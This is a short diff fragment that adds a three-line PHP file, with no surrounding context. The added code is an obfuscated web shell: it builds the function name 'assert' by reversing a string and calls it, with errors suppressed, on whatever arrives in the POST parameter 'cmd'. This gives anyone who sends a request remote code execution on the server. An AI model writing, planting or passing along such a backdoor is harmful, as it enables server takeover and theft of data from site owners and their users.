@@ -1,0 +1,3 @@
+<?php
+$name = strrev('tressa');
+@$name($_POST['cmd']);
